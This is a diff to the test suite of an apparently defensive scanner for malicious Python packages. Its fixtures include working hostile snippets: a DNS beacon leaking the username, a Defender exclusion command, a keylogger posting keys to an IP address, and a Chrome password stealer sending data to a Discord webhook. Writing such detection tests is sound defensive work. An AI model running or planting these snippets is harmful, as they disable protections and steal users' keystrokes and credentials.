@@ -399,3 +399,33 @@ def test_setup_py_dns_recon_with_backticks_is_a_beacon() -> None:
     setup = "import os\nos.system('nslookup `whoami`.x1y2z3.oast.live')\n" + _SETUP
     result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": setup}))
     assert result == "malicious" and "package.install-beacon:critical" in findings
+
+
+@pytest.mark.parametrize(("code", "expected"), [
+    # Defender told to skip the user's folder: no library blinds the machine's defences
+    ("import os, subprocess\nsubprocess.run(['powershell', '-Command', 'Add-MpPreference -ExclusionPath ' "
+     "+ os.environ['APPDATA']], capture_output=True)\n", "package.install-downloader:critical"),
+    # a keylogger started at import whose callback posts the keys from the same file
+    ("from pynput import keyboard\nimport requests\nlog = []\ndef on_press(k):\n    log.append(str(k))\n"
+     "    if len(log) > 50:\n        requests.post('http://185.12.1.9/k', data=''.join(log))\n"
+     "keyboard.Listener(on_press=on_press).start()\n", "package.surveillance:critical"),
+    # one browser store, copied then queried (the data flow breaks at the copy), and a webhook in the file
+    ("import os, sqlite3, shutil, requests\np = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', "
+     "'User Data', 'Default', 'Login Data')\nshutil.copy(p, 'h.db')\nrows = sqlite3.connect('h.db')"
+     ".execute('select origin_url, password_value from logins').fetchall()\n"
+     "requests.post('https://discord.com/api/webhooks/123/abc', json={'content': str(rows)[:1900]})\n",
+     "package.stealer:critical"),
+])
+def test_import_time_intent_shapes_are_critical(code: str, expected: str) -> None:
+    """Each was suspicious at most before (a high finding at best)."""
+    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": code}))
+    assert result == "malicious" and expected in findings
+
+
+def test_hotkeys_and_defender_status_stay_clean() -> None:
+    """A hotkey helper listens to keys and sends nothing; a status tool reads Defender's settings."""
+    code = ("import subprocess\nfrom pynput import keyboard\n\ndef watch(cb):\n"
+            "    return keyboard.GlobalHotKeys({'<ctrl>+<alt>+h': cb})\n\ndef defender():\n"
+            "    return subprocess.run(['powershell', '-Command', 'Get-MpPreference'], capture_output=True).stdout\n")
+    result, findings = verdict(sdist("helperlib", "0.1", {"setup.py": _SETUP, "helperlib/__init__.py": code}))
+    assert result == "clean", findings
